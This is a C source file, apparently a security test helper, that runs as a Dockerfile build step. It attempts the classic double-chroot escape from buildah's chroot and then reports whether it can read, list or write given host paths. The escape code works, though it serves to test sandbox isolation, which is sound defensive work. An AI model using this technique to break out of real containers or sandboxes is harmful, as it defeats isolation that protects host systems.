/* A Dockerfile RUN step that leaves buildah's chroot the classic way (chroot into a subfolder while
 * the working directory stays outside it, climb with chdir(".."), chroot(".")), then reports what it
 * can do on the host: ESCAPE-<path>: read <n> bytes | listed <names> | wrote | <errno name>.
 * argv: [read:PATH | list:PATH | write:PATH]... Built static by the hostile tests (gcc -static). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *name(int e) {
    switch (e) {
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case EPERM: return "EPERM";
    case EROFS: return "EROFS";
    default: return strerror(e);
    }
}

int main(int argc, char **argv) {
    mkdir("/escape-jail", 0700);
    if (chroot("/escape-jail") != 0) { printf("ESCAPE-chroot: %s\n", name(errno)); return 0; }
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) { printf("ESCAPE-chroot2: %s\n", name(errno)); return 0; }
    chdir("/");
    printf("ESCAPE-uid: %d\n", (int)getuid());
    for (int i = 1; i < argc; i++) {
        char *arg = argv[i], *path = strchr(arg, ':') + 1;
        if (strncmp(arg, "read:", 5) == 0) {
            int fd = open(path, O_RDONLY);
            if (fd < 0) { printf("ESCAPE-%s: %s\n", path, name(errno)); continue; }
            char buf[65536]; ssize_t n = read(fd, buf, sizeof buf);
            if (n < 0) printf("ESCAPE-%s: %s\n", path, name(errno));
            else printf("ESCAPE-%s: read %zd bytes\n", path, n);
            close(fd);
        } else if (strncmp(arg, "list:", 5) == 0) {
            DIR *d = opendir(path);
            if (!d) { printf("ESCAPE-%s: %s\n", path, name(errno)); continue; }
            printf("ESCAPE-%s: listed", path);
            struct dirent *e; while ((e = readdir(d))) printf(" %s", e->d_name);
            printf("\n");
            closedir(d);
        } else if (strncmp(arg, "write:", 6) == 0) {
            int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0644);
            if (fd < 0) { printf("ESCAPE-%s: %s\n", path, name(errno)); continue; }
            write(fd, "escaped\n", 8); close(fd);
            printf("ESCAPE-%s: wrote\n", path);
        }
    }
    return 0;
}
